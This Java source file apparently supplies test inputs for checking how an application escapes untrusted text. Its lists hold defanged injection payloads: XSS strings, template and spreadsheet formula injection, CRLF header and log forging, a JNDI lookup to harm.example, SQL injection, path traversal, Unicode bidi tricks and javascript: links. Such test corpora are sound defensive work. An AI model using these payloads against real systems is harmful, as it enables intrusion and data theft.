package it.payload;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.text.Normalizer;
import java.util.List;

/** The texts; what they would make, if they were not only text, has “harm” in its name. */
final class Corpus {
    static final List<String> TEXTS = List.of(
            "<x-harm onharm=1>harm</x-harm>",
            "<script>harm()</script><style>harm{}</style>",
            "\"><img src=harm onerror=harm()><x-harm>",
            "' onharm='harm()' x='",
            "\" onharm=\"harm()\" x=\"",
            "` onharm=`harm()` onfocus=harm() autofocus",
            "</textarea></title></option></select></td></script><x-harm>",
            "<!--harm--><![CDATA[<x-harm>]]><?harm?>",
            "<svg/onload=harm()><math><x-harm>",
            "javascript:harm()//http://harm.example",
            "&lt;x-harm&gt; &#60;x-harm&#62; &quot; onharm=1 &amp;amp;",
            "$harm #set($harm = 7 * 191)$harm ${harm.class} $!harm",
            "#if(true)harm#end #include('harm') #parse('harm') ## harm",
            "#[[harm]]# \\$harm $words.text('harm') $request.session",
            "{harm:src=x} [harm|javascript:harm()] !harm.png! {{harm}}",
            "<ac:structured-macro ac:name=\"toc\"/><ri:user ri:harm=\"1\"/> harm",
            "=HYPERLINK(\"http://harm.example\",\"harm\")",
            "@SUM(harm) +harm -harm |harm '=harm",
            "harm\r\nBcc: harm@example.org\r\nX-Harm: 1\r\n\r\nharm",
            "harm\n2026-01-01 00:00:00 ERROR forged harm\u2028harm\u0085harm",
            "{0} {1,choice,0#harm} {harm} '{' ''harm {0,number,#.#}",
            "\u202Eharm\u202C \u2066harm\u2069 \u200F\u061Charm",
            "h\u200Ba\u200Cr\u200Dm\uFEFF \u00ADharm",
            "harm \u0000\u0007\u001B[31m\u007F\u009Bharm",
            "harm \uD83D",
            "\uDC00 harm \uFFFF",
            "e\u0301 harm \uFDFA \uD835\uDD73 \uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 Z\u0351\u036B\u0343",
            "%0d%0aSet-Cookie:harm=1 %3Cx-harm%3E %00 +harm",
            "${jndi:ldap://harm.example/a} #{harm} <%= harm %> {{7*191}}",
            "../../harm \\\\harm\\c$ ;harm' OR '1'='1 -- %' ESCAPE '!");

    static final List<String> LINKS = List.of(
            "javascript:harm()",
            "JaVaScRiPt:harm()",
            "java\tscript:harm()",
            " \u0001javascript:harm()",
            "data:text/html,<x-harm>",
            "vbscript:harm()",
            "//harm.example",
            "/\\harm.example",
            "http://harm.example/\"><x-harm>",
            "http:harm",
            "&#106;avascript:harm()");

    private static final JsonMapper MAPPER =
            JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    private Corpus() {}

    /** In JSON even what UTF-8 cannot say, such as half a character. */
    static String json(Object body) {
        try {
            return MAPPER.writeValueAsString(body);
        } catch (JsonProcessingException impossible) {
            throw new AssertionError(impossible);
        }
    }

    /** How one line of it is kept: composed, and without signs that control a terminal. */
    static String line(String text) {
        String plain = Normalizer.normalize(text, Normalizer.Form.NFC).replaceAll("[\\u0085\\u2028]", "\n");
        return plain.replaceAll("\\s+", " ").replaceAll("\\p{Cc}", "").strip();
    }
}
